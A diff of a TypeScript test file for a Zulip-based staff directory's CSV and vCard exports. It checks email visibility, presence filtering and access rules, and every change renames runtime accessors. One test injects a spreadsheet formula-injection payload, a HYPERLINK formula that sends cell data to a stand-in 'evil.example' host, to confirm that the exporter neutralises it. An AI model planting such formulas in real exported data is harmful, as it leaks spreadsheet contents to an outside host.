@@ -63,7 +63,7 @@ let fields: { title: number; department: number };
 /** A new person with this address setting, once the directory lists them. */
 async function newPerson(fullName: string, visibility: string): Promise<DemoUser> {
   const made = (await dir.control('POST', '/demo/users', { full_name: fullName, email_visibility: visibility })) as { user: { user_id: number } };
-  await until(() => dir.runtime.people.get(made.user.user_id) !== undefined, `${fullName} listed`);
+  await until(() => dir.runtime.view.people.get(made.user.user_id) !== undefined, `${fullName} listed`);
   return dir.demo.org.users.find((u) => u.user_id === made.user.user_id)!;
 }
 
@@ -71,7 +71,7 @@ beforeAll(async () => {
   // Zulip 10.x with an administrator bot: it reads nearly every real address, and the directory
   // must still show only those Zulip shows members (docs/zulip.md §f).
   dir = await startTestDirectory({ demo: { featureLevel: 372, botRole: 200, users: 60, seed: 12 } });
-  const roles = dir.runtime.people.fieldRoles();
+  const roles = dir.runtime.view.people.fieldRoles();
   fields = { title: roles.title!, department: roles.department! };
   hidden = [await newPerson('Hidden Admins-Only', 'admins'), await newPerson('Hidden Nobody', 'nobody'), await newPerson('Hidden Members', 'members')];
   shown = await newPerson('Shown Everyone', 'everyone');
@@ -86,7 +86,7 @@ describe('/export/people.csv', () => {
       expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
       expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
       expect(res.headers.get('cache-control')).toBe('no-store');
-      const org = dir.runtime.org.name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
+      const org = dir.runtime.view.org.name.toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
       expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${org}-directory-${today()}.csv"`);
       expect(text.slice(1, text.indexOf('\r\n'))).toBe(COLUMNS.join(','));
     });
@@ -132,7 +132,7 @@ describe('/export/people.csv', () => {
         const { res, rows } = await csv(search);
         expect(rows.map((r) => idOf(r['Profile URL']!)), team.name).toEqual(expected.items.map((p) => p.id));
         expect(res.headers.get('content-disposition')).toContain(`-directory-${team.name.toLowerCase().normalize('NFKD').replace(/\p{M}/gu, '').replace(/[^\p{L}\p{N}]+/gu, '-').replace(/^-|-$/g, '')}-${today()}.csv`);
-        checked += expected.total > 0 && expected.total < dir.runtime.people.list().length ? 1 : 0;
+        checked += expected.total > 0 && expected.total < dir.runtime.view.people.list().length ? 1 : 0;
       }
       expect(checked).toBeGreaterThan(0);
     });
@@ -141,7 +141,7 @@ describe('/export/people.csv', () => {
   it('says who is active now, and the presence filter keeps only them', async () => {
     await withEnv(OPEN, async () => {
       await reportPresence(dir.demo, shown, 'active');
-      await until(() => dir.runtime.presence.get(shown.user_id)?.state === 'active', 'the presence refresh');
+      await until(() => dir.runtime.view.presence.get(shown.user_id)?.state === 'active', 'the presence refresh');
       const { rows } = await csv('?status=active');
       expect(rows.length).toBeGreaterThan(0);
       expect(rows.every((r) => r.Presence === 'active')).toBe(true);
@@ -155,9 +155,9 @@ describe('/export/people.csv', () => {
       const { rows } = await csv('?sort=name');
       const byId = new Map(rows.map((r) => [idOf(r['Profile URL']!), r]));
       let withManager = 0;
-      for (const person of dir.runtime.people.list()) {
+      for (const person of dir.runtime.view.people.list()) {
         const row = byId.get(person.id)!;
-        const managers = person.managerIds.map((id) => dir.runtime.people.get(id)?.name).filter(Boolean);
+        const managers = person.managerIds.map((id) => dir.runtime.view.people.get(id)?.name).filter(Boolean);
         withManager += managers.length > 0 ? 1 : 0;
         expect(row, person.name).toMatchObject({
           Title: person.title ?? '',
@@ -179,7 +179,7 @@ describe('/export/people.csv', () => {
       const formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Click")';
       await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: '@SUM(1+1)', profile_data: { [fields.title]: formula, [fields.department]: '-2+3' } });
       try {
-        await until(() => dir.runtime.people.get(shown.user_id)?.title === formula, 'the profile update');
+        await until(() => dir.runtime.view.people.get(shown.user_id)?.title === formula, 'the profile update');
         const { rows, text } = await csv('?q=SUM');
         expect(rows).toHaveLength(1);
         expect(rows[0]).toMatchObject({ Name: "'@SUM(1+1)", Title: `'${formula}`, Department: "'-2+3" });
@@ -187,7 +187,7 @@ describe('/export/people.csv', () => {
         for (const row of csvObjects(text.slice(1))) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
       } finally {
         await dir.control('PATCH', `/demo/users/${shown.user_id}`, { full_name: 'Shown Everyone', profile_data: { [fields.title]: null, [fields.department]: null } });
-        await until(() => dir.runtime.people.get(shown.user_id)?.name === 'Shown Everyone', 'the name back');
+        await until(() => dir.runtime.view.people.get(shown.user_id)?.name === 'Shown Everyone', 'the name back');
       }
     });
   });
@@ -230,7 +230,7 @@ describe('/export/people.vcf', () => {
 describe('/people/{ref}/vcard', () => {
   it('is the person’s card: name, title, organization and department, shown email, zone, photo, profile address, pronouns', async () => {
     await withEnv(OPEN, async () => {
-      const person = dir.runtime.people.list().find((p) => p.title && p.department && p.pronouns && p.email && p.timezone) as Person;
+      const person = dir.runtime.view.people.list().find((p) => p.title && p.department && p.pronouns && p.email && p.timezone) as Person;
       expect(person).toBeDefined();
       const { res, cards } = await vcf(`/people/${person.id}/vcard`);
       expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="[a-z0-9-]+\.vcf"/);
@@ -239,7 +239,7 @@ describe('/people/{ref}/vcard', () => {
       const one = (name: string) => unescapeText(card.get(name)![0]!);
       expect(one('FN')).toBe(person.name);
       expect(one('TITLE')).toBe(person.title);
-      expect(card.get('ORG')![0]).toBe(`${dir.runtime.org.name.replace(/[\\,;]/g, '\\$&')};${person.department!.replace(/[\\,;]/g, '\\$&')}`);
+      expect(card.get('ORG')![0]).toBe(`${dir.runtime.view.org.name.replace(/[\\,;]/g, '\\$&')};${person.department!.replace(/[\\,;]/g, '\\$&')}`);
       expect(one('EMAIL')).toBe(person.email);
       expect(one('TZ')).toBe(person.timezone);
       expect(card.get('PHOTO')![0]).toBe(person.avatarUrl);
@@ -279,7 +279,7 @@ describe('what no export carries', () => {
       for (const user of hidden) expect((await vcf(`/people/${user.user_id}/vcard`)).cards[0]!.has('EMAIL')).toBe(false);
       // Every listed person's hidden address, not only those made here.
       const { text } = await csv('?sort=name');
-      for (const person of dir.runtime.people.list()) {
+      for (const person of dir.runtime.view.people.list()) {
         const user = dir.demo.org.users.find((u) => u.user_id === person.id)!;
         if (person.email === null) expect(text.toLowerCase()).not.toContain(user.delivery_email.toLowerCase());
       }
@@ -309,7 +309,7 @@ describe('what no export carries', () => {
 });
 
 describe('who may export', () => {
-  const member = () => dir.runtime.people.get(shown.user_id)!;
+  const member = () => dir.runtime.view.people.get(shown.user_id)!;
 
   for (const [mode, env] of [
     ['zulip', { DIRECTORY_ACCESS: 'zulip', DIRECTORY_SESSION_SECRET: SECRET }],
